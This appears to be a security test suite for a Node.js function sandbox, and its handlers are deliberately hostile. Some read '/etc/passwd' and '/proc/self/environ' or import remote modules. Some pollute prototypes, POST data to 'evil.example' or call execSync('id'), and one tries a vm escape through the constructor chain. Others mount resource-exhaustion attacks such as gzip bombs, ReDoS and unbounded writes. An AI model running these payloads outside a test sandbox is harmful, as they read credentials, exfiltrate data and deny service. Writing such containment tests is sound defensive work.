import type { FunctionFile } from '../../../src/sandbox/protocol.ts';
import { attack } from './support/attack.ts';
import type { Attack } from './support/attack.ts';

const any = ['response', 'function-error', 'init-error', 'timeout', 'exit'] as const;
const inFiles = (
  number: number,
  name: string,
  files: Record<string, string>,
  expected: Omit<Attack, 'code' | 'request'>,
): void => {
  const list = Object.entries(files).map(([name, code]): FunctionFile => ({
    name,
    code,
    language: 'javascript',
  }));
  const spec = { handler: 'index.handler', runtime: 'nodejs24.x', environment: {} } as const;
  attack(number, name, { ...expected, request: { function: { files: list, ...spec } } });
};
const harmless = 'export const handler = async () => 1;';

attack(147, 'imports of the names of prototypes, of paths upwards and of addresses', {
  code: `
    // import '@aws-sdk/client-__proto__' from '../worker'; require('node:__proto__')
    const names = ['__proto__', 'constructor', 'toString', '../worker', '../../sandbox.html', 'node:__proto__',
      'node:constructor', '@aws-sdk/client-../../../index', '@aws-sdk/client-__proto__', 'file:///etc/passwd', '/proc/self/environ',
      'http://CANARY/x.mjs', '//CANARY/x.mjs', 'blob:null/x', 'data:text/javascript,1', 'javascript:1', '', '\\0', 'node:fs\\0'];
    export const handler = async () => {
      const given = [];
      for (const name of names) await import(name).then(() => given.push(name), () => 0);
      return given;
    };`,
  ends: 'response',
  answers: [],
});

attack(148, 'requires of the same, and of what the runtime itself has', {
  code: `
    const names = ['__proto__', 'constructor', '../worker', '/var/runtime/index.mjs', '/etc/passwd', 'node:constructor', 'services', '../services.ts'];
    const given = names.filter((name) => { try { require(name); return true; } catch { return false; } });
    exports.handler = async () => [given, typeof $builtin, typeof require.cache, typeof module.parent];`,
  ends: [...any],
  check: ({ outcome }) => {
    if (outcome.kind === 'response' && !outcome.body.startsWith('[[],"undefined"'))
      throw new Error(outcome.body);
  },
});

inFiles(
  149,
  'a thousand files, each importing the next',
  Object.fromEntries([
    ['index.mjs', "import { n } from './f0.mjs'; export const handler = async () => n;"],
    ...Array.from({ length: 1_000 }, (_, index) => [
      `f${index}.mjs`,
      index < 999
        ? `import { n as next } from './f${index + 1}.mjs'; export const n = next + 1;`
        : 'export const n = 0;',
    ]),
  ] as [string, string][]),
  { ends: [...any] },
);

inFiles(
  150,
  'a deep cycle of imports, by both kinds of module',
  {
    'index.mjs': "import './a.mjs'; import './c.cjs'; export const handler = async () => 1;",
    'a.mjs': "import './b.mjs'; import './a.mjs';",
    'b.mjs': "import './a.mjs'; await import('./index.mjs').catch(() => 0);",
    'c.cjs': "require('./d.cjs'); require('./c.cjs');",
    'd.cjs': "require('./c.cjs'); try { require('./a.mjs'); } catch {}",
  },
  { ends: [...any] },
);

inFiles(
  151,
  'files with the names of prototypes and paths upwards',
  {
    'index.mjs': harmless,
    __proto__: 'x',
    'constructor.mjs': harmless,
    '../runtime/index.mjs': 'throw 1',
    'node:fs': 'throw 2',
    'package.json': '{"type":"module","main":"../../x","exports":{"__proto__":{}}}',
  },
  { ends: [...any] },
);

attack(152, 'replies with keys of prototypes, too long, and not JSON', {
  code: `
    export const handler = async () => {
      const { S3Client, GetObjectCommand } = await import('@aws-sdk/client-s3');
      const said = await new S3Client({}).send(new GetObjectCommand({ Bucket: 'b', Key: '__proto__' }));
      await fetch('https://evil.example/');
      return [({}).polluted ?? null, typeof said];
    };`,
  request: {
    timeoutMs: 5_000,
    replies: {
      ['__proto__']: '{"value":{"polluted":1}}',
      constructor: '{',
      's3/GetObject': `{"value":{"__proto__":{"polluted":1},"Metadata":{"x":"${'y'.repeat(1e7)}"}}}`,
    },
  },
  ends: ['response', 'function-error'],
});

attack(153, 'calls by the thousand', {
  code: `
    export const handler = async () => {
      for (let i = 0; i < 1_000; i++) await fetch('https://evil.example/' + i, { method: 'POST', body: 'x'.repeat(1000) });
      return 'done';
    };`,
  request: { timeoutMs: 10_000 },
  ends: ['response', 'timeout'],
  check: ({ calls }) => {
    if (calls.length > 500) throw new Error(`${calls.length} calls reached the page`);
  },
});

attack(154, 'calls of a hundred kilobytes, by the hundred', {
  code: `
    export const handler = async () => {
      for (let i = 0; i < 100; i++) await fetch('https://evil.example/', { method: 'POST', body: 'x'.repeat(1e5) });
      return 'done';
    };`,
  request: { timeoutMs: 10_000 },
  ends: 'response',
  answers: 'done',
});

attack(155, 'a stream that is written without end', {
  code: `
    export const handler = awslambda.streamifyResponse(async (event, stream) => {
      for (;;) { stream.write('x'.repeat(1e6)); await null; }
    });`,
  ends: [...any],
});

attack(156, 'a stream with a prelude and content types of the wrong kinds', {
  code: `
    export const handler = awslambda.streamifyResponse(async (event, stream) => {
      for (const type of [1, null, {}, [], Symbol('x'), 'x'.repeat(1e6)]) try { stream.setContentType(type); } catch {}
      for (const metadata of [1, null, { headers: { toString: 1 } }, { statusCode: { valueOf() { throw 1; } } }, JSON.parse('{"__proto__":{"x":1}}')])
        try { stream = awslambda.HttpResponseStream.from(stream, metadata); } catch {}
      for (const chunk of [1, null, {}, Symbol('x'), new Uint8Array([255, 254, 0])]) try { stream.write(chunk); } catch {}
      stream.end();
    });`,
  ends: [...any],
});

attack(157, 'a bomb of zeros in gunzipSync', {
  code: `
    import { gzipSync, gunzipSync } from 'node:zlib';
    export const handler = async () => {
      const packed = gzipSync(new Uint8Array(3e7)); const all = [];
      for (;;) all.push(gunzipSync(packed));
    };`,
  ends: [...any],
});

attack(158, 'a file system in memory, filled', {
  code: `
    import { writeFileSync } from 'node:fs';
    export const handler = async () => { for (let i = 0; ; i++) writeFileSync('/tmp/f' + i, new Uint8Array(1e7).fill(i)); };`,
  ends: [...any],
});

attack(159, 'a key derived at an absurd cost', {
  code: `
    import * as crypto from 'node:crypto';
    export const handler = async () => {
      for (const derive of [() => crypto.scryptSync('p', 's', 64, { N: 2 ** 20, r: 8, p: 16, maxmem: 2 ** 34 }),
        () => crypto.pbkdf2Sync('p', 's', 1e9, 64, 'sha512'), () => crypto.randomBytes(2 ** 31)]) try { derive(); } catch {}
      for (;;) crypto.createHash('sha512').update('x'.repeat(1e6)).digest('hex');
    };`,
  ends: [...any],
});

attack(160, 'getters with patterns that backtrack, inspected', {
  code: `
    import { inspect } from 'node:util';
    export const handler = async () => inspect({ get a() { return /^(a+)+$/.test('a'.repeat(40) + '!'); } }, { getters: true });`,
  ends: [...any],
});

attack(161, 'a store for asynchronous calls that calls itself without end', {
  code: `
    import { AsyncLocalStorage } from 'node:async_hooks';
    const store = new AsyncLocalStorage();
    const again = async (depth) => store.run({ depth, held: new Array(1000).fill(depth) }, async () => { await null; return again(depth + 1); });
    export const handler = async () => again(0);`,
  ends: [...any],
});

attack(162, 'ways out through the modules for handlers', {
  code: `
    const names = ['http', 'https', 'http2', 'net', 'tls', 'dns', 'dgram', 'child_process', 'worker_threads', 'vm', 'cluster', 'inspector', 'wasi'];
    const uses = [(m) => m.get?.('http://CANARY/').end?.(), (m) => m.request?.({ host: '127.0.0.1', port: 'CANARY'.split(':')[1] }).end('x'),
      (m) => m.connect?.(Number('CANARY'.split(':')[1]), '127.0.0.1'), (m) => m.lookup?.('evil.example', () => 0), (m) => m.createSocket?.('udp4').send('x', 'CANARY'.split(':')[1]),
      (m) => m.execSync?.('id'), (m) => new m.Worker('http://CANARY/'), (m) => m.runInNewContext?.('this.constructor.constructor("return process")()'), (m) => m.open?.()];
    export const handler = async () => {
      for (const name of names) { const m = await import('node:' + name).catch(() => ({})); for (const use of uses) try { await Promise.race([use(m.default ?? m), null]); } catch {} }
      await new Promise((resolve) => setTimeout(resolve, 100));
      return 'tried';
    };
    // 'http' 'https' 'net' 'tls' 'dns' 'dgram' 'child_process' 'worker_threads' 'vm' 'cluster' 'http2' 'inspector' 'wasi'`,
  request: { timeoutMs: 5_000 },
  ends: 'response',
  answers: 'tried',
});
